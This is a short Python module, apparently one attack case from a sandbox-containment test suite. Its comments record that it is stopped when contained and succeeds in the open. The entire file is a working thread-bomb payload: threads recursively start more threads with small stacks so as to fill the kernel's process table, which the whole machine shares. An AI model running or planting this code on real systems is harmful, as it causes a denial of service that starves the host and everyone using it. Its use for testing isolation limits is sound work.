# Starts threads until it is stopped, from threads, too; each waits.
# Every thread is a process to the kernel, and the table of those is shared by the whole machine.
# contained: passed
# in the open: succeeds
import _thread
import threading
import time

threading.stack_size(64 << 10)
ALIVE = []


def attack():
    enough = 2 * TARGET["threads"]

    def wait():
        ALIVE.append(1)
        start()
        time.sleep(2)

    def start():
        try:
            if len(ALIVE) < enough:
                _thread.start_new_thread(wait, ())
        except RuntimeError:
            pass

    for _ in range(enough):
        start()
        time.sleep(0.001)
    return f"{len(ALIVE)} threads" if len(ALIVE) > TARGET["threads"] else None
